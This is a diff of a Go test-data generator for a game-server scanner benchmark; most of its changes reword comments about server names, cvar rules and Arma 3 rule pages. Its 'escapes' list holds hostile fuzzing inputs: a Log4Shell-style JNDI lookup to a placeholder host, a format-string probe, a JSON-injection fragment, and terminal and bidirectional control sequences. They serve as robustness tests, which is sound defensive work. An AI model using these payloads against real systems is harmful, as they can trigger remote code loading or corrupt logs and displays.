@@ -8,8 +8,8 @@ import (
 	"github.com/a2sscan/a2sscan/bench/fleet/internal/random"
 )
 
-// nameLimit is where the Steam SDK cuts a server's name, in the middle of a
-// character if need be (EC-40).
+// nameLimit is the length at which the Steam SDK cuts a server's name, even in the
+// middle of a character (EC-40).
 const nameLimit = 63
 
 var (
@@ -26,7 +26,7 @@ var (
 	brokenNames = []string{
 		"\xd1\xe5\xf0\xe2\xe5\xf0 \xd0\xee\xf1\xf1\xe8\xff",             // CP1251
 		"\xd6\xd0\xb9\xfa\xb7\xfe\xce\xf1\xc6\xf7 CS1.6",                // GBK
-		"half a character \xe4\xb8", "\xff\xfe raw", "\xc0\xafoverlong", // UTF-8 that is none
+		"half a character \xe4\xb8", "\xff\xfe raw", "\xc0\xafoverlong", // invalid UTF-8
 		"\xed\xa0\x80surrogate\xf5\x80\x80\x80", "tail \xf0\x9f\x94", "\x80\x80\x80",
 	}
 	controlNames = []string{
@@ -50,8 +50,8 @@ var (
 	modDownloads = constants("", "http://example.org/get")
 )
 
-// appendName appends a server's name: mostly plain, but of every sort that is
-// found in the wild.
+// appendName appends a server's name: usually a plain one, but of every sort found
+// in the wild.
 func appendName(dst []byte, r *random.Stream) []byte {
 	start := len(dst)
 	switch at := r.Below(100); {
@@ -113,8 +113,8 @@ func appendPlayerName(dst []byte, r *random.Stream) []byte {
 	return strconv.AppendInt(dst, int64(r.Below(1000)), 10)
 }
 
-// constants makes texts of strings, to be read only: they are part of the
-// contents of all servers.
+// constants converts strings to texts that must not be changed: the contents of all
+// servers share them.
 func constants(ss ...string) (texts [][]byte) {
 	for _, s := range ss {
 		texts = append(texts, []byte(s))
@@ -122,13 +122,13 @@ func constants(ss ...string) (texts [][]byte) {
 	return texts
 }
 
-// cvar is a rule as servers have them, and the values that it has.
+// cvar is a rule as found on servers, and the values that it may have.
 type cvar struct {
 	name   []byte
 	values [][]byte
 }
 
-// cvars are rules as servers of all engines have them.
+// cvars are rules found on servers of all engines.
 var cvars = newCvars(
 	"_tutor_bomb_viewable_check_interval=0.5", "allow_spectators=1 0", "amx_nextmap=de_dust2 de_inferno de_train",
 	"amx_timeleft=00:00 12:34 24:59", "amxmodx_version=1.8.2 1.9.0.5294 1.10.0.5467", "bot_quota=0 0 0 4 10",
@@ -148,7 +148,8 @@ var cvars = newCvars(
 	"sv_voiceenable=1", "sv_wateraccelerate=10", "tf_arena_max_streak=3 5", "tv_enable=0 1",
 )
 
-// newCvars reads names and, behind an equals sign, values with spaces between them.
+// newCvars parses names, each followed by an equals sign and values separated by
+// spaces.
 func newCvars(all ...string) (vars []cvar) {
 	for _, text := range all {
 		name, values, _ := strings.Cut(text, "=")
@@ -157,21 +158,21 @@ func newCvars(all ...string) (vars []cvar) {
 	return vars
 }
 
-// pluginVersions are values of the rules beyond the usual ones.
+// pluginVersions are the values of rules other than the usual ones.
 var pluginVersions = constants("1.0", "1.2.3", "2.0.1", "0.9b", "1.12.0.7163", "3.1")
 
 // oddValues are values that few servers have: bytes that are not UTF-8, quotes,
-// other alphabets, nothing at all.
+// other alphabets, or nothing at all.
 var oddValues = constants(
 	"Добро пожаловать", "\"quoted\"", "\xcf\xf0\xe0\xe2\xe8\xeb\xe0", "a\ttab", "", "-1", "half \xe4\xb8",
 )
 
-// oneInOdd is how rare servers with odd values among their rules are: one in 16,
-// where of the real world's about one in 64 has a value that is not UTF-8.
+// oneInOdd is how rare servers with odd values among their rules are: one in 16. In
+// the real world, about one in 64 has a value that is not UTF-8.
 const oneInOdd = 16
 
-// ruleValue draws a value of a usual rule, or of one beyond those; on odd servers
-// sometimes an odd one.
+// ruleValue draws a value for a usual rule, or for another one if usual is nil; on
+// odd servers sometimes an odd value.
 func ruleValue(r *random.Stream, usual *cvar, odd bool) []byte {
 	switch {
 	case odd && r.OneIn(4):
@@ -182,14 +183,14 @@ func ruleValue(r *random.Stream, usual *cvar, odd bool) []byte {
 	return random.Pick(r, usual.values)
 }
 
-// appendRuleName appends the name of rule i, beyond the usual ones.
+// appendRuleName appends the name of rule i, which is not one of the usual ones.
 func appendRuleName(dst []byte, i int) []byte {
 	dst = strconv.AppendInt(append(dst, "sm_plugin_"...), int64(i), 10)
 	return append(dst, "_version"...)
 }
 
-// hostileText makes a text of escape sequences around a word: colours, a title,
-// a cleared screen, bidirectional overrides, C1 controls, a formula, markup.
+// hostileText surrounds a word with escape sequences: colours, a title, a cleared
+// screen, bidirectional overrides, C1 controls, a formula, markup.
 func hostileText(dst []byte, r *random.Stream, word []byte) []byte {
 	dst = append(dst, random.Pick(r, escapes)...)
 	dst = append(dst, word...)
@@ -202,11 +203,12 @@ var escapes = []string{
 	"\r\n{\"schema\":1}\r\n", "\x08\x08\x08", "\ufeff\u200b", "%s%n%x", "${jndi:ldap://example.org}", "\"},\"status\":\"ok",
 }
 
-// maxPages is how many binary pages a list of rules begins with at most.
+// maxPages is the most binary pages with which a list of rules begins.
 const maxPages = 7
 
-// appendPage appends a rule as Arma 3 servers have them: the name is page and
-// number of pages, the value up to 127 bytes of anything but 0 (EC-101).
+// appendPage appends a rule as found on Arma 3 servers: the name is the page and
+// the number of pages, and the value has up to 127 bytes of any value but 0
+// (EC-101).
 func appendPage(dst []byte, r *random.Stream, i, of int) []byte {
 	dst = append(dst, byte(i+1), byte(of))
 	for range r.Between(40, 127) {
